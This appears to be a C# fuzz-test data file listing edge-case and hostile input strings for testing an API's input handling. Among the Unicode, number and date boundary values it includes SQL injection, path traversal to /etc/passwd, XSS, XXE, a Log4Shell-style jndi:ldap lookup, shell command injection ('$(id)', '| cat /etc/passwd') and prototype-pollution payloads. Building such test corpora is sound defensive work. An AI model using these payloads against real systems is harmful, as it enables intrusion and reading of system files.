namespace OpdTokens.Api.Tests.Fuzz;

/// <summary>Texts that are known to break services.</summary>
internal static class HostileText
{
    public static readonly IReadOnlyList<string> All =
    [
        "", " ", "\t", "\r\n", "\0", "a\0b", "\u0001", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff",
        "\u200b", "\u202e gnp.exe", "e\u0301", "İ", "ß", "ﬀ", "𝄞", "👩‍👩‍👧‍👦", "Z̷͇̈a̶l̴g̵o̸", "٢٠٢٦", "①", "１２３", "नमस्ते", "العربية",
        "null", "undefined", "NaN", "Infinity", "-Infinity", "true", "[]", "{}", "\"", "'", "\\", "`", "%", "%%", "%s%s%s%n", "{0}", "${7*7}", "{{7*7}}",
        "' OR '1'='1", "'; DROP TABLE OrleansStorage; --", "1; SELECT pg_sleep(10)", "\" OR \"\"=\"", "1 UNION SELECT NULL", "*/*", "--",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "/etc/passwd", "file:///etc/passwd", "C:\\", "//elsewhere.example", "?x=1", "#", "&", ";",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "${jndi:ldap://elsewhere.example/a}", "| cat /etc/passwd", "$(id)", "; id", "=1+1", "@SUM(1)", "+1",
        "0", "-0", "-1", "1", "00", "1e3", "1e400", "0x10", "1_000", "1,000", "2147483647", "2147483648", "-2147483649", "9223372036854775808",
        "0.1", ".5", "1.", "99999999999999999999999999999999999999999999",
        "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2024-02-29", "0000-00-00", "2026-13-01", "26-1-1", "2026-01-30T00:00:00Z", "today",
        "00:00", "23:59", "24:00", "23:60", "9:00", "09:00:00", "-09:00",
        "1-20260130-1", "1-00010101-1", "1-99991231-1", "1-20260130-0", "1-20260130-2147483647", "2147483647-20260130-1", "-1-20260130-1", "01-20260130-01",
        "1-20260130-1-K7Q2M9XB4T", "1-20260130-1-ILOUILOUIL", "1-20260130-1-K7Q2M9XB4T@main", "1-20260130-1-K7Q2M9XB4T@", "@main", "1-20260130-1-K7Q2M9XB4T@@",
        "DOC1-20260130-0001", "DOC1-20260130-99999999999", "DOC0-00000000-0000", "DOC2147483647-99991231-2147483647", "doc1-20260130-1",
        "Asia/Kolkata", "../../etc/localtime", "Etc/GMT+99", "main", "MAIN", "-", "a".PadLeft(33, 'a'),
        "opd_main_0000000000_0", "opd_", "Bearer x", "e30.e30.", "eyJhbGciOiJub25lIn0.e30.", "IiI=", "////", "AAAA", "W10=", "eyJhIjoxfQ==",
        new('a', 100), new('a', 101), new('ä', 255), new('9', 256), new('x', 500), new('x', 501), new('%', 300), new('(', 1000), new('/', 60),
    ];

    /// <summary>Half a pair, which is no text.</summary>
    public static readonly IReadOnlyList<string> BrokenEscapes =
        ["\\ud800", "\\udc00", "\\udc00\\ud800", "a\\ud83d", "\\u0000", "\\uZZZZ", "\\u12", "\\x41", "\\", "\\u000a", "\\ufdd0"];

    /// <summary>What stands in the place of a JSON value.</summary>
    public static readonly IReadOnlyList<string> JsonValues =
    [
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1E+2", "00", "01", "+1", ".5", "1.", "0x1", "NaN", "Infinity", "2147483648", "9223372036854775808",
        "1e-400", "123456789012345678901234567890", "\"\"", "[]", "{}", "[null]", "[[]]", "{\"a\":{}}", "[1,\"a\",null]", "{\"\":null}", "undefined", "'a'", "a", "\"a", "// a", "/* a */ 1",
        "{\"__proto__\":{\"admin\":true}}", "{\"$type\":\"a\"}", "{\"$ref\":\"#\"}", "[1,]", "{\"a\":1,}", "\"a\" \"b\"", ",", ":", "]",
    ];
}
